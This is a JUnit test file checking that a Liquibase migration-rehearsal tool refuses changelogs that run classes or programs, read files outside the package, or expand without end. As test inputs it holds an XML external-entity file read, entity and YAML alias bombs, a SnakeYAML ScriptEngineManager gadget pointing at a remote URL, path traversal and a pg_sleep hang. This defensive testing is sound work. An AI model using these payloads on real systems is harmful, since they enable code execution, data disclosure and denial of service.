package dten.preflight.rehearse.liquibase;

import static org.assertj.core.api.Assertions.assertThat;

import dten.preflight.fact.rehearsal.RehearsedFile.Ending;
import dten.preflight.rehearse.migration.MigrationPlan;
import dten.preflight.rehearse.migration.ObservedRun;
import dten.preflight.rehearse.migration.TriedServer;
import dten.preflight.rehearse.tool.ToolRuns;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Changelogs that try to do more than send SQL, each beside one that does not. */
class ChangelogSafetyTest {
  private static final String HEAD =
      "<databaseChangeLog xmlns=\"http://www.liquibase.org/xml/ns/dbchangelog\">";
  private static final String KEPT = "<sql>CREATE TABLE kept (a int)</sql>";

  @TempDir private Path folder;

  private static ToolRuns pkg(String... lines) {
    String[] all = new String[lines.length + 2];
    all[0] = HEAD;
    System.arraycopy(lines, 0, all, 1, lines.length);
    all[lines.length + 1] = "</databaseChangeLog>";
    return new ToolRuns(new LiquibaseTool()).file("p/a.xml", all);
  }

  private static ToolRuns changeSet(String... changes) {
    return pkg("<changeSet id=\"1\" author=\"a\">", String.join("", changes), KEPT, "</changeSet>");
  }

  /** The notes, and then what was seen. */
  private static List<String> tried(ToolRuns pkg) throws SQLException {
    MigrationPlan plan = pkg.plan();
    List<String> lines = new java.util.ArrayList<>(plan.notes());
    lines.addAll(ToolRuns.seen(plan, pkg.database(plan)));
    return lines;
  }

  private static final String[] ALL = {"p/a.xml:4:6 CREATE TABLE kept", "p/a.xml DONE"};

  @Test
  void classesProgramsAndFilesAreLeftOutOfAChangeSet() throws SQLException {
    Path trace = folder.resolve("trace");
    assertThat(
            tried(
                changeSet(
                    "<customChange class=\"x.Y\"><param name=\"a\" value=\"b\"/>",
                    "</customChange>")))
        .containsExactly(
            "p/a.xml:3:1 was left out of the change set 1 of a: customChange runs a class of the"
                + " vendor's",
            ALL[0],
            ALL[1]);
    assertThat(
            tried(
                changeSet(
                    "<executeCommand executable=\"touch\"><arg value=\"" + trace + "\"/>",
                    "</executeCommand>")))
        .containsExactly(
            "p/a.xml:3:1 was left out of the change set 1 of a: executeCommand runs a program",
            ALL[0],
            ALL[1]);
    assertThat(tried(changeSet("<output target=\"" + trace + "\">x</output>")))
        .containsExactly(
            "p/a.xml:3:1 was left out of the change set 1 of a: output writes to a file or to the"
                + " terminal",
            ALL[0],
            ALL[1]);
    assertThat(tried(changeSet("<newKindOfChange of=\"x\"/>")))
        .containsExactly(
            "p/a.xml:3:1 was left out of the change set 1 of a: newKindOfChange is nothing that is"
                + " known to send only SQL",
            ALL[0],
            ALL[1]);
    assertThat(tried(changeSet("<sql>SELECT 1</sql>")))
        .containsExactly("p/a.xml:3:6 SELECT", ALL[0], ALL[1]);
    assertThat(Files.exists(trace)).isFalse();
  }

  @Test
  void aChangeSetUnderAClassOrAProgramIsNotRun() throws SQLException {
    assertThat(
            tried(
                changeSet(
                    "<preConditions><not><customPrecondition className=\"x.Y\"/></not>",
                    "</preConditions>")))
        .containsExactly(
            "p/a.xml:2:1 the change set 1 of a was not run: customPrecondition runs a class of the"
                + " vendor's",
            "p/a.xml DONE");
    assertThat(
            tried(
                pkg("<changeSet id=\"1\" author=\"a\" runWith=\"psql\">" + KEPT + "</changeSet>")))
        .containsExactly(
            "p/a.xml:2:1 the change set 1 of a was not run: runWith=\"psql\" runs a program",
            "p/a.xml DONE");
    assertThat(
            tried(
                pkg(
                    "<changeSet id=\"1\" author=\"a\" runWith=\"jdbc\">",
                    "",
                    KEPT,
                    "</changeSet>")))
        .containsExactly(ALL);
  }

  @Test
  void whatIsOutsideOfThePackageIsNotThere() throws SQLException, IOException {
    Path secret = Files.writeString(folder.resolve("s.sql"), "CREATE TABLE stolen (a int)");
    Path csv = Files.writeString(folder.resolve("s.csv"), "a\n1\n");
    for (String path : List.of("http://127.0.0.1:9/x.sql", "file:" + secret)) {
      assertThat(tried(changeSet("<sqlFile path=\"" + path + "\"/>")))
          .containsExactly(
              "p/a.xml:3:1 was left out of the change set 1 of a: sqlFile reads "
                  + (path.length() > 60 ? path.substring(0, 60) + "…" : path)
                  + ", which is outside of the package",
              ALL[0],
              ALL[1]);
    }
    for (String path : List.of(secret.toString(), "../../../../.." + secret)) {
      List<String> lines = tried(changeSet("<sqlFile path=\"" + path + "\"/>"));
      assertThat(lines).hasSize(2);
      assertThat(lines.get(0))
          .startsWith("p/a.xml Liquibase ")
          .contains(" was not found in the package");
      assertThat(lines.get(1)).isEqualTo("p/a.xml FAILED");
    }
    assertThat(tried(changeSet("<loadData tableName=\"t\" file=\"" + csv + "\"/>")).get(1))
        .isEqualTo("p/a.xml FAILED");
    assertThat(tried(changeSet("<sqlFile path=\"x.sql\"/>").file("p/x.sql", "SELECT 1;")))
        .containsExactly("p/x.sql:1:1 SELECT", ALL[0], ALL[1]);
  }

  @Test
  void rowsOfAFileOfThePackageAreLoaded() throws SQLException {
    assertThat(
            tried(
                changeSet(
                        "<createTable tableName=\"t\"><column name=\"a\" type=\"int\"/>"
                            + "</createTable><loadData tableName=\"t\" file=\"t.csv\"/>")
                    .file("p/t.csv", "a", "1", "2")))
        .containsExactly(
            "p/a.xml:3:1 CREATE TABLE public.t", "p/a.xml:3:71 INSERT public.t", ALL[0], ALL[1]);
  }

  @Test
  void inclusionsStayInside() throws SQLException, IOException {
    Path other = Files.writeString(folder.resolve("o.xml"), HEAD + "</databaseChangeLog>");
    String set = "<changeSet id=\"1\" author=\"a\">";
    for (String path : List.of("http://127.0.0.1:9/x.xml", "https://h/x.xml", "jar:file:/x!/y")) {
      assertThat(tried(pkg("<include file=\"" + path + "\"/>", set, KEPT, "</changeSet>")))
          .containsExactly(
              "p/a.xml:2:1 include was not run: what it includes is outside of the package",
              ALL[0],
              ALL[1]);
    }
    assertThat(tried(pkg("<include file=\"" + other + "\"/>", set, KEPT, "</changeSet>")))
        .satisfiesExactly(
            line ->
                assertThat(line)
                    .startsWith("p/a.xml Liquibase ")
                    .contains(" was not found in the package"),
            line -> assertThat(line).isEqualTo("p/a.xml FAILED"));
    for (String name : List.of("filter", "resourceFilter", "resourceComparator")) {
      assertThat(
              tried(
                  pkg(
                      "<includeAll path=\"more\" " + name + "=\"x.Y\"/>",
                      set,
                      KEPT,
                      "</changeSet>")))
          .containsExactly(
              "p/a.xml:2:1 includeAll was not run: " + name + " runs a class of the vendor's",
              ALL[0],
              ALL[1]);
    }
    assertThat(
            tried(
                pkg("<includeAll path=\"more\"/>", set, KEPT, "</changeSet>")
                    .file(
                        "p/more/b.xml",
                        HEAD,
                        set,
                        "<sql>SELECT 1</sql>",
                        "</changeSet>",
                        "</databaseChangeLog>")))
        .containsExactly("p/more/b.xml:3:6 SELECT", ALL[0], ALL[1]);
  }

  @Test
  void entitiesTagsAndAliasesDoNothing() throws SQLException, IOException {
    Path secret = Files.writeString(folder.resolve("secret"), "CREATE TABLE stolen (a int)");
    String doctype =
        "<!DOCTYPE databaseChangeLog [<!ENTITY x SYSTEM \"file:"
            + secret
            + "\">"
            + "<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
    MigrationPlan plan =
        new ToolRuns(new LiquibaseTool())
            .file(
                "p/a.xml",
                doctype,
                HEAD,
                "<changeSet id=\"1\" author=\"a\">",
                "<sql>SELECT '&x;&b;'</sql>" + KEPT,
                "</changeSet></databaseChangeLog>")
            .plan();
    assertThat(plan.notes().toString() + plan.fresh()).doesNotContain("stolen");

    assertThat(
            new ToolRuns(new LiquibaseTool())
                .file(
                    "p/a.yaml",
                    "databaseChangeLog:",
                    "- changeSet:",
                    "    id: 1",
                    "    author: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://h/\"]]",
                    "    changes:",
                    "    - sql: {sql: SELECT 1}")
                .file(
                    "p/b.yaml",
                    "a: &a [x,x,x,x,x,x,x,x,x]",
                    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]",
                    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]",
                    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]",
                    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]",
                    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]",
                    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]",
                    "databaseChangeLog: *g")
                .plan()
                .notes())
        .allMatch(note -> !note.contains("http"));
  }

  @Test
  void valuesComeFromThePackageAlone() throws SQLException {
    ToolRuns pkg =
        changeSet("<sql>SELECT '${user.home}', '${PATH}', '${java.version}', '${own}'</sql>")
            .file("p/liquibase.properties", "parameter.own=x", "url=jdbc:postgresql://h/x");
    assertThat(tried(pkg))
        .containsExactly(
            "${PATH}, ${java.version}, ${own}, ${user.home} have no value in the package, and"
                + " stayed as written; --parameter gives one",
            "p/a.xml:3:6 SELECT",
            ALL[0],
            ALL[1]);
    assertThat(
            tried(
                pkg(
                    "<property name=\"own\" value=\"kept\"/>",
                    "<changeSet id=\"1\" author=\"a\">",
                    "<sql>CREATE TABLE ${own} (a int)</sql>",
                    "</changeSet>")))
        .containsExactly("p/a.xml:4:6 CREATE TABLE kept", "p/a.xml DONE");
  }

  @Test
  void whatTheOperatorSaysComesBeforeWhatThePackageSays() throws SQLException {
    assertThat(
            tried(
                pkg(
                        "<property name=\"own\" value=\"kept\"/>",
                        "<changeSet id=\"1\" author=\"a\">",
                        "<sql>CREATE TABLE ${own} (${site.column} int)</sql>",
                        "</changeSet>")
                    .parameter("own", "given")
                    .parameter("Site.Column", "a")))
        .containsExactly("p/a.xml:4:6 CREATE TABLE given", "p/a.xml DONE");
  }

  @Test
  void valuesThatGrowWithoutEndAreStopped() throws SQLException {
    StringBuilder properties = new StringBuilder("<property name=\"p0\" value=\"${p0}${p0}\"/>");
    for (int i = 1; i < 40; i++) {
      String inner = "${p" + (i - 1) + "}";
      properties.append("<property name=\"p" + i + "\" value=\"" + inner + inner + "\"/>");
    }
    List<String> lines =
        tried(
            pkg(
                properties.toString(),
                "<changeSet id=\"1\" author=\"a\">",
                KEPT + "<sql>SELECT '${p39}'</sql>",
                "</changeSet>"));
    assertThat(lines).last().isEqualTo("p/a.xml DONE");
  }

  @Test
  void nothingIsSaidAndNothingIsWritten() throws SQLException {
    List<String> before = List.of(new File(".").list());
    PrintStream out = System.out;
    PrintStream err = System.err;
    ByteArrayOutputStream said = new ByteArrayOutputStream();
    try (PrintStream caught = new PrintStream(said, true, StandardCharsets.UTF_8)) {
      System.setOut(caught);
      System.setErr(caught);
      assertThat(tried(changeSet("<sql>SELECT 'x'</sql>"))).hasSize(3);
      assertThat(tried(changeSet("<sql>SELECT nothing</sql>"))).hasSize(2);
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
    assertThat(said.toString(StandardCharsets.UTF_8)).isEmpty();
    assertThat(List.of(new File(".").list())).isEqualTo(before);
  }

  @Test
  void aStatementWithoutEndIsStopped() throws SQLException {
    MigrationPlan plan =
        changeSet("<sql>SET statement_timeout = 0</sql><sql>SELECT pg_sleep(600)</sql>").plan();
    ObservedRun run =
        TriedServer.run(TriedServer.get(), TriedServer.database(), Duration.ofSeconds(1));
    assertThat(run.run(plan.fresh().get(0)).ending()).isEqualTo(Ending.STOPPED);
    assertThat(run.late()).hasSize(1);
  }

  @Test
  void circlesEnd() throws SQLException {
    assertThat(
            tried(
                pkg(
                        "<include file=\"b.xml\"/>",
                        "<changeSet id=\"1\" author=\"a\">",
                        KEPT,
                        "</changeSet>")
                    .file("p/b.xml", HEAD, "<include file=\"a.xml\"/>", "</databaseChangeLog>")))
        .containsExactly("p/a.xml Liquibase a.xml includes itself", "p/a.xml FAILED");
  }
}
